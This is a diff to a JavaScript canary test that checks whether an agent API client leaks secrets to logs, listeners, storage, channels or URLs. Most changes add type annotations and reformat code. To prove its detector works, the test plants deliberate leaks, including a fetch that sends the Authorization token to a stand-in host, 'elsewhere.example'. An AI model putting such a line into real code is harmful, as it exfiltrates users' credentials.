@@ -1,7 +1,8 @@
+// @ts-check
 /**
- * The canary: every method is called with secrets that occur nowhere else, before a server that
- * quotes the whole request in whatever it answers. Then everything that can be observed, other than
- * the requests themselves, is searched for them.
+ * Every method is called with secrets that occur nowhere else, against a server that quotes the
+ * whole request in each answer. Then everything that can be observed, except the requests
+ * themselves, is searched for the secrets.
  */
 
 import assert from "node:assert/strict";
@@ -9,6 +10,7 @@ import { after, before, test } from "node:test";
 import { format, inspect } from "node:util";
 import { allMethods, callOf, everyCall, SYNCHRONOUS } from "../support/calls.mjs";
 import { pause } from "../support/client.mjs";
+import { fetchDouble } from "../support/fetch-double.mjs";
 
 const HOST = "neuron.example";
 const OWN_KEY = "AgentAPI.Token";
@@ -19,13 +21,17 @@ class Secrets {
   #all = new Set();
   #count = 0;
 
-  /** A secret that is unlike every other, with what each way of quoting writes in its own way. */
+  /**
+   * A secret that is unlike every other, with characters that each way of quoting writes in its own way.
+   *
+   * @param {string} kind
+   */
   word(kind) {
     this.#count += 1;
     return this.keep(`${kind}${this.#count}"\\<&>'å/+ canary`);
   }
 
-  /** One where only letters and digits are allowed. */
+  /** One where only letters and digits are allowed. @param {string} kind */
   plain(kind) {
     this.#count += 1;
     return this.keep(`${kind}${this.#count}canary`);
@@ -33,7 +39,7 @@ class Secrets {
 
   token() {
     this.#count += 1;
-    const part = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");
+    const part = (/** @type {object} */ value) => Buffer.from(JSON.stringify(value)).toString("base64url");
     const now = Math.floor(Date.now() / 1000);
     const signature = this.keep(`signature${this.#count}canary`);
     const payload = { sub: "alice", iat: now, exp: now + 3600, jti: `canary${this.#count}` };
@@ -45,6 +51,7 @@ class Secrets {
     return this.keep(String(871_000 + this.#count));
   }
 
+  /** @param {string} secret */
   keep(secret) {
     this.#all.add(secret);
     return secret;
@@ -58,8 +65,11 @@ class Secrets {
   *forms() {
     for (const secret of this.#all) {
       const inXml = secret
-        .replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;")
-        .replaceAll('"', "&quot;").replaceAll("'", "&apos;");
+        .replaceAll("&", "&amp;")
+        .replaceAll("<", "&lt;")
+        .replaceAll(">", "&gt;")
+        .replaceAll('"', "&quot;")
+        .replaceAll("'", "&apos;");
       const forms = [
         secret,
         JSON.stringify(secret).slice(1, -1),
@@ -73,10 +83,15 @@ class Secrets {
   }
 }
 
-/** What was found of the secrets in what was observed: pairs of place and secret. */
+/**
+ * The secrets that were found in what was observed, each with its place.
+ *
+ * @param {[place: string, text: string][]} observed
+ * @param {Secrets} secrets
+ */
 function leaks(observed, secrets) {
   const found = [];
-  // Most is said more than once.
+  // Most texts occur more than once.
   const texts = new Map(observed.map(([place, text]) => [`${place} ${text}`, [place, text]]));
   for (const { secret, form } of secrets.forms()) {
     for (const [place, text] of texts.values()) {
@@ -86,11 +101,12 @@ function leaks(observed, secrets) {
   return found;
 }
 
-/** Everything that somebody else than the broker can see, as text. */
+/** Everything that others than the broker can see, as text. @type {[place: string, text: string][]} */
 const observed = [];
-const note = (place, ...values) => observed.push([place, format(...values)]);
+const note = (/** @type {string} */ place, /** @type {unknown[]} */ ...values) =>
+  observed.push([place, format(...values)]);
 
-const CONSOLE = ["debug", "info", "log", "warn", "error", "trace", "dir"];
+const CONSOLE = /** @type {const} */ (["debug", "info", "log", "warn", "error", "trace", "dir"]);
 const real = {
   fetch: globalThis.fetch,
   random: crypto.getRandomValues,
@@ -100,28 +116,42 @@ const real = {
   console: Object.fromEntries(CONSOLE.map((name) => [name, console[name]])),
 };
 
-/** How the server answers. */
+/** @typedef {(url: string, options: import("../support/fetch-double.mjs").FetchOptions) => void} Leak */
+
+/** How the server answers. @type {number | "network" | "session"} */
 let mode;
-/** What a test plants. */
+/** What a test plants. @type {Leak} */
 let plant = () => {};
 let secrets = new Secrets();
+/** @type {import("neuron-agent-api").AgentAPI} */
 let agent;
+/** @type {Map<string, string>} */
 const storage = new Map();
 
 class Storage {
+  /** @param {string} key */
   getItem(key) {
     return storage.get(key) ?? null;
   }
+  /**
+   * @param {string} key
+   * @param {string} value
+   */
   setItem(key, value) {
     storage.set(key, value);
     if (key !== OWN_KEY) note("storage", key, value);
   }
+  /** @param {string} key */
   removeItem(key) {
     storage.delete(key);
   }
 }
 
 class Socket extends EventTarget {
+  /**
+   * @param {string} url
+   * @param {string} protocol
+   */
   constructor(url, protocol) {
     super();
     note("URL", url, protocol);
@@ -134,28 +164,35 @@ class Socket extends EventTarget {
 }
 
 class Channel {
+  /** @param {unknown} message */
   postMessage(message) {
     note("channel", message);
   }
   close() {}
 }
 
-/** How somebody would quote a request who had no idea. What is long is cut, so each comes first. */
+/**
+ * How a careless server might quote a request. Long quotes are cut, so each part comes first in one.
+ *
+ * @type {((...request: Parameters<Leak>) => string)[]}
+ */
 const QUOTES = [
   (url, { method, headers, body }) =>
-    `${method} ${url} ${Object.entries(headers).map((pair) => pair.join(": ")).join("\n")}\n${body}`,
+    `${method} ${url} ${Object.entries(headers)
+      .map((pair) => pair.join(": "))
+      .join("\n")}\n${body}`,
   (_, { body }) => String(body),
   (_, { headers }) => JSON.stringify(headers),
   (_, { body }) => `bad request: ${String(body).slice(20)}`,
 ];
 let quotes = 0;
-function quoted(url, options) {
+function quoted(/** @type {Parameters<Leak>} */ ...request) {
   quotes += 1;
-  return QUOTES[quotes % QUOTES.length](url, options);
+  return QUOTES[quotes % QUOTES.length](...request);
 }
 
-/** What the library makes of its own that is secret, as it goes over the wire. */
-function keepWhatIsMade({ headers, body }) {
+/** Keeps the secrets that the library makes itself, as they go over the wire. */
+function keepWhatIsMade(/** @type {Parameters<Leak>[1]} */ { headers, body }) {
   const authorization = headers.Authorization?.split(" ")[1];
   if (authorization) secrets.keep(authorization);
   for (const name of ["nonce", "signature", "keySignature", "requestSignature", "tabId"]) {
@@ -164,7 +201,7 @@ function keepWhatIsMade({ headers, body }) {
   }
 }
 
-async function fetchDouble(url, options) {
+const fetchAndQuote = fetchDouble(async (url, options) => {
   note("URL", url);
   keepWhatIsMade(options);
   plant(url, options);
@@ -176,44 +213,64 @@ async function fetchDouble(url, options) {
     return answer(200, JSON.stringify({ ...AccountCreated, AccountCreated, seconds: 3600, echo }));
   }
   return answer(mode, echo);
-}
+});
 
-const answer = (status, body) => ({
+const answer = (/** @type {number} */ status, /** @type {string} */ body) => ({
   status,
   statusText: body,
-  headers: { get: (name) => (name === "X-AlternativeName1" ? body : name === "Retry-After" ? "0" : null) },
+  headers: {
+    get: (/** @type {string} */ name) =>
+      name === "X-AlternativeName1" ? body : name === "Retry-After" ? "0" : null,
+  },
   text: async () => body,
 });
 
 before(async () => {
-  globalThis.fetch = fetchDouble;
-  globalThis.WebSocket = Socket;
-  globalThis.BroadcastChannel = Channel;
+  globalThis.fetch = fetchAndQuote;
   globalThis.reportError = (error) => note("reportError", inspect(error, { depth: 9 }));
   // A page that has nothing but what the library may touch.
   const known = { visibilityState: "visible", addEventListener() {}, removeEventListener() {} };
-  globalThis.document = new Proxy(known, {
-    get: (page, name) => (name in page ? page[name] : note("DOM", `document.${String(name)}`)),
-    set: (_, name, value) => (note("DOM", `document.${String(name)}`, value), true),
+  const document = new Proxy(known, {
+    get: (page, name) => (name in page ? Reflect.get(page, name) : note("DOM", `document.${String(name)}`)),
+    set(_, name, value) {
+      note("DOM", `document.${String(name)}`, value);
+      return true;
+    },
   });
-  globalThis.location = { protocol: "https:", host: HOST };
-  globalThis.sessionStorage = new Storage();
-  globalThis.localStorage = new Storage();
-  for (const name of CONSOLE) console[name] = (...args) => note(`console.${name}`, ...args.map((arg) => inspect(arg, { depth: 9, showHidden: true })));
+  Object.assign(globalThis, {
+    WebSocket: Socket,
+    BroadcastChannel: Channel,
+    document,
+    location: { protocol: "https:", host: HOST },
+    sessionStorage: new Storage(),
+    localStorage: new Storage(),
+  });
+  for (const name of CONSOLE) {
+    console[name] = (/** @type {unknown[]} */ ...args) =>
+      note(`console.${name}`, ...args.map((arg) => inspect(arg, { depth: 9, showHidden: true })));
+  }
   let nonces = 0;
-  crypto.getRandomValues = (bytes) => {
+  crypto.getRandomValues = (array) => {
+    const bytes = /** @type {Uint8Array<ArrayBuffer>} */ (/** @type {unknown} */ (array));
     // No pauses; and a nonce that is known, and never the same.
     bytes.fill(0);
-    if (bytes.length <= 4) return bytes;
+    if (bytes.length <= 4) return array;
     nonces += 1;
     Buffer.from(bytes.buffer).write(`nonce${nonces}canary`);
     secrets.keep(Buffer.from(bytes).toString("base64"));
-    return bytes;
+    return array;
   };
   ({ AgentAPI: agent } = await import(`${import.meta.resolve("neuron-agent-api")}?canary`));
   agent.IO.SetLogLevel("debug");
-  for (const [group, name] of [["IO", "OnRequest"], ["IO", "OnResponse"], ["IO", "OnRetry"], ["Account", "OnSessionChange"]]) {
-    agent[group][name]((event) => note(name, inspect(event, { depth: 9, showHidden: true })));
+  for (const [group, name] of [
+    ["IO", "OnRequest"],
+    ["IO", "OnResponse"],
+    ["IO", "OnRetry"],
+    ["Account", "OnSessionChange"],
+  ]) {
+    callOf(agent, `${group}.${name}`, [
+      (/** @type {unknown} */ event) => note(name, inspect(event, { depth: 9, showHidden: true })),
+    ]);
   }
 });
 
@@ -222,7 +279,9 @@ function restore() {
   Object.assign(console, methods);
   Object.assign(globalThis, globals);
   crypto.getRandomValues = random;
-  for (const name of ["document", "location", "sessionStorage", "localStorage", "TabID"]) delete globalThis[name];
+  for (const name of ["document", "location", "sessionStorage", "localStorage", "TabID"]) {
+    Reflect.deleteProperty(globalThis, name);
+  }
 }
 after(async () => {
   mode = 403;
@@ -245,7 +304,7 @@ function begin(passed = 0) {
   }
 }
 
-function noteError(error) {
+function noteError(/** @type {Error} */ error) {
   const { message, stack, cause } = error;
   note("error", message);
   note("error", stack);
@@ -254,7 +313,12 @@ function noteError(error) {
   note("error", inspect(cause, { depth: 9, showHidden: true }));
 }
 
-/** Calls a method with secrets of its own wherever a secret can be. */
+/**
+ * Calls a method with new secrets wherever there can be one.
+ *
+ * @param {string} method
+ * @param {string} encoding
+ */
 async function callWithSecrets(method, encoding) {
   const token = secrets.token();
   const words = {
@@ -266,22 +330,26 @@ async function callWithSecrets(method, encoding) {
     keyPassword: secrets.word("keyPassword"),
     pin: secrets.plain("pin"),
   };
-  globalThis.TabID = secrets.plain("tab");
+  Object.assign(globalThis, { TabID: secrets.plain("tab") });
   begin(method === "Account.RestartActiveSession" ? 2000 : 0);
-  const [, , values] = everyCall(words).find(([name]) => name === method);
+  const values = everyCall(words).find(([name]) => name === method)?.[2] ?? [];
   const options = method.startsWith("Account.DomainInfo") ? undefined : { encoding };
   try {
     await callOf(agent, method, options ? [...values, options] : values);
     return "fulfilled";
   } catch (error) {
-    noteError(error);
-    return error.code;
+    const failure = /** @type {import("neuron-agent-api").AgentApiError} */ (error);
+    noteError(failure);
+    return failure.code;
   }
 }
 
+/** @type {(typeof mode)[]} */
 const MODES = [400, 401, 403, 404, 429, 500, 503, 200, 204, 307, "network", "session"];
 
-test("no secret of any method is told, whatever the broker quotes", { timeout: 120_000 }, async (context) => {
+test("no secret of any method is shown, whatever the broker quotes", {
+  timeout: 120_000,
+}, async (context) => {
   const methods = everyCall().map(([method]) => method);
   assert.deepEqual([...methods, ...SYNCHRONOUS].sort(), allMethods().sort());
   const outcomes = new Map();
@@ -304,7 +372,19 @@ test("no secret of any method is told, whatever the broker quotes", { timeout: 1
     }
   }
   // What a listener, a log line and a broadcast show was really looked at.
-  for (const place of ["OnRequest", "OnResponse", "OnRetry", "OnSessionChange", "URL", "error", "channel", "storage", "console.debug", "console.info", "console.warn"]) {
+  for (const place of [
+    "OnRequest",
+    "OnResponse",
+    "OnRetry",
+    "OnSessionChange",
+    "URL",
+    "error",
+    "channel",
+    "storage",
+    "console.debug",
+    "console.info",
+    "console.warn",
+  ]) {
     assert.ok(places.has(place), `${place} was never used: nothing is tested there`);
   }
   assert.ok(!places.has("DOM"), "the page was touched");
@@ -313,14 +393,16 @@ test("no secret of any method is told, whatever the broker quotes", { timeout: 1
   context.diagnostic(JSON.stringify({ ...total, outcomes: Object.fromEntries(outcomes) }));
 });
 
-/** One leak in each place, of what goes over the wire. */
+/** One leak in each place, of what goes over the wire. @type {Record<string, Leak>} */
 const PLANTED = {
   "console.debug": (_, { headers }) => console.debug("sending", headers),
   "console.log": (_, { headers }) => console.log(`${headers.Authorization}!`),
   OnRequest: (_, { headers }) => agent.IO.OnRequest(() => note("OnRequest", headers.Authorization)),
-  channel: (_, { headers }) => new BroadcastChannel("x").postMessage({ token: headers.Authorization.slice(7) }),
+  channel: (_, { headers }) =>
+    new BroadcastChannel("x").postMessage({ token: headers.Authorization.slice(7) }),
   storage: (_, { headers }) => sessionStorage.setItem("last", headers.Authorization),
-  URL: (_, { headers }) => void fetch(`https://elsewhere.example/?${encodeURIComponent(headers.Authorization)}`, { headers: {} }),
+  URL: (_, { headers }) =>
+    void fetch(`https://elsewhere.example/?${encodeURIComponent(headers.Authorization)}`, { headers: {} }),
   error: (_, { body }) => {
     throw new Error(`can't send ${body}`);
   },
@@ -343,16 +425,19 @@ for (const [place, leak] of Object.entries(PLANTED)) {
     plant = () => {};
     await pause(5);
     const found = leaks(observed, secrets);
-    assert.ok(found.some((line) => line.startsWith(`${place} told `)), `nothing was found in ${place}`);
+    assert.ok(
+      found.some((line) => line.startsWith(`${place} told `)),
+      `nothing was found in ${place}`,
+    );
   });
 }
 
-test("a leak in what a listener is told is found", async (context) => {
+test("a leak in an event of a listener is found", async (context) => {
   observed.length = 0;
   secrets = new Secrets();
   mode = 403;
   const { freeze } = Object;
-  context.mock.method(Object, "freeze", (value) => {
+  context.mock.method(Object, "freeze", (/** @type {any} */ value) => {
     if (value?.operation) value.authorization = storage.get(OWN_KEY);
     return freeze(value);
   });
@@ -360,6 +445,9 @@ test("a leak in what a listener is told is found", async (context) => {
   await pause(5);
   const found = leaks(observed, secrets);
   for (const place of ["OnRequest", "OnResponse", "console.debug"]) {
-    assert.ok(found.some((line) => line.startsWith(`${place} told `)), `nothing was found in ${place}`);
+    assert.ok(
+      found.some((line) => line.startsWith(`${place} told `)),
+      `nothing was found in ${place}`,
+    );
   }
 });
